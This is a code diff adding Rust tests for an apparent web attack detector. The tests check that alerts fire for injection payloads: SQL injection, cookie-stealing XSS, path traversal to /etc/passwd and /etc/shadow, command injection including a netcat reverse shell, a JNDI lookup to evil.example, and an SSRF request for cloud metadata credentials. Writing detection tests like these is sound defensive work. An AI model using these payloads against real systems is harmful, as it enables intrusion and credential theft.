@@ -714,3 +714,102 @@ fn many_addresses_failing_logins_with_one_fingerprint_are_ip_rotation() {
         );
     }
 }
+
+/// A logged-in user sending `payloads` as the `q` parameter of the search, one every 2 s.
+fn injector(ip: &'static str, payloads: &'static [&'static str]) -> Vec<Req> {
+    payloads
+        .iter()
+        .enumerate()
+        .map(|(i, p)| {
+            let q: String = p
+                .bytes()
+                .map(|b| match b {
+                    b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => {
+                        char::from(b).to_string()
+                    }
+                    _ => format!("%{b:02X}"),
+                })
+                .collect();
+            req(
+                ATTACK_START + i as u64 * 2 * SECOND,
+                ip,
+                "GET",
+                &format!("/api/search?q={q}"),
+                CHROME,
+            )
+            .bearer("tok-injector")
+        })
+        .collect()
+}
+
+#[test]
+fn injection_payloads_raise_their_category() {
+    for (category, ip, payloads) in [
+        (
+            "sqli",
+            "203.0.113.70",
+            &[
+                "1' OR '1'='1' -- ",
+                "1 UNION SELECT username,password FROM users--",
+            ][..],
+        ),
+        (
+            "xss",
+            "203.0.113.71",
+            &[
+                "<script>alert(document.cookie)</script>",
+                "\"><img src=x onerror=alert(1)>",
+            ][..],
+        ),
+        (
+            "path_traversal",
+            "203.0.113.72",
+            &["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow"][..],
+        ),
+        (
+            "command_injection",
+            "203.0.113.73",
+            &[
+                "x; cat /etc/passwd",
+                "$(id)",
+                "| nc -e /bin/sh 10.0.0.1 4444",
+            ][..],
+        ),
+        (
+            "template_injection",
+            "203.0.113.74",
+            &["{{7*7}}", "${jndi:ldap://evil.example/a}"][..],
+        ),
+    ] {
+        let mut t = world(40);
+        t.attack(injector(ip, payloads));
+        let (_, alerts) = assert_detected(t, category, 5);
+        let a = alerts.iter().find(|a| a["category"] == category).unwrap();
+        let sig = &a["evidence"]["signatures"][0];
+        assert_eq!(sig["location"]["part"], "query", "{a}");
+        assert_eq!(sig["location"]["name"], "q", "{a}");
+        assert!(
+            sig["value"]
+                .as_str()
+                .is_some_and(|v| !v.is_empty() && v.len() <= 96),
+            "{a}"
+        );
+    }
+}
+
+#[test]
+fn ssrf_toward_the_metadata_service_is_raised() {
+    let mut t = world(41);
+    t.attack((0..3).map(|i| {
+        req(
+            ATTACK_START + i * SECOND,
+            "203.0.113.75",
+            "POST",
+            "/api/import",
+            CHROME,
+        )
+        .bearer("tok-ssrf")
+        .json(r#"{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}"#)
+    }));
+    assert_detected(t, "ssrf", 5);
+}
